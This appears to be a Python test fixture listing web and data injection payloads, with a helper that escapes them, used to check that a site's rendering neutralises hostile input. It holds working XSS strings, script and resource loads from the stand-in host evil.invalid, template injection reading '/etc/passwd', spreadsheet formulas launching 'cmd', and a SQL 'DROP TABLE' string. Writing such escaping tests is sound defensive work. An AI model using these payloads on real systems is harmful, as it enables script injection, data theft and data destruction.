"""Words that break out where they are not escaped: what each is, and the words.

What would run calls ``alert``, what would load asks for ``evil.invalid``, and what would become an element
has the class ``evil``: the browser's test looks for all three.
"""

from __future__ import annotations

from html import escape

AWAY = "https://evil.invalid/x"

PAYLOADS: dict[str, str] = {
    "script": "<script class=evil>alert(1)</script>",
    "script-elsewhere": f'<script class="evil" src="{AWAY}"></script>',
    "script-nested": "<scr<script>ipt class=evil>alert(1)</scr</script>ipt>",
    "image-handler": "<img class=evil src=x onerror=alert(1)>",
    "image-elsewhere": f'<img class="evil" src="{AWAY}">',
    "svg": "<svg class=evil onload=alert(1)><script>alert(1)</script></svg>",
    "mathml": '<math class=evil><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</math>',
    "iframe": '<iframe class="evil" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object class="evil" data="{AWAY}"></object><embed class="evil" src="{AWAY}">',
    "details-handler": "<details class=evil open ontoggle=alert(1)>x</details>",
    "mutation": "<noscript><p title='</noscript><img class=evil src=x onerror=alert(1)>'>",
    "javascript-link": "<a class=evil href='javascript:alert(1)'>点</a> [点](javascript:alert(1))",
    "javascript-coded": "<a class=evil href='java&#10;script:alert(1)'>点</a>",
    "data-link": "[点](data:text/html,<script>alert(1)</script>)",
    "style": f"<style class=evil>body{{background:url({AWAY})}}</style>",
    "style-attribute": f"<p class=evil style=\"background:url('{AWAY}')\">x</p>",
    "link-element": f'<link class="evil" rel=stylesheet href="{AWAY}">',
    "refresh": f'<meta class="evil" http-equiv=refresh content="0;url={AWAY}">',
    "base": f'<base class="evil" href="{AWAY}/">',
    "form": f'<form class="evil" action="{AWAY}"><input name=a autofocus onfocus=alert(1)></form>',
    "attribute-double": '" onmouseover="alert(1)" class="evil',
    "attribute-single": "' autofocus onfocus='alert(1)' class='evil",
    "tag-break": '"><svg class=evil onload=alert(1)>',
    "json-ld-break": "</script><script class=evil>alert(1)</script>",
    "json-ld-comment": "<!--<script>alert(1)",
    "comment-break": "--><script class=evil>alert(1)</script>",
    "cdata-break": "]]><script class=evil>alert(1)</script><![CDATA[",
    "title-break": "</title></textarea></style><script class=evil>alert(1)</script>",
    "table-break": "</td></tr></table><script class=evil>alert(1)</script>",
    "entities": "&lt;script class=evil&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "full-width": "＜script class=evil＞alert(1)＜／script＞",
    "template-jinja": "{{ 7*7 }}{% include '/etc/passwd' %}{{ config.__class__ }}",
    "template-script": "${alert(1)}`${alert(1)}` <%= 7*7 %> #{7*7}",
    "slot": "giar-slot-content giar-slot-title giar-slot-toc giar-slot-head",
    "formula-equals": '=HYPERLINK("https://evil.invalid/","点")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "sql": "'); DROP TABLE facts; --",
    "quotes": "\"\"\",',\t;\"\r\n\"",
    "bidi": "\u202eelbat\u2066 目录\u2069 \u200f",
    "null-and-controls": "前\x00\x01\x08\x1b[31m后\x7f",
    "separators": "行\u2028段\u2029\x85尾",
    "noncharacters": "\ufffe\uffff\ufdd0 \U000e0041",
}  # fmt: skip


def escaped(payload: str) -> str:
    """The payload as words of a web page: what an honest editor of an attacked site would print."""
    return escape("".join(c for c in payload if c.isprintable()))
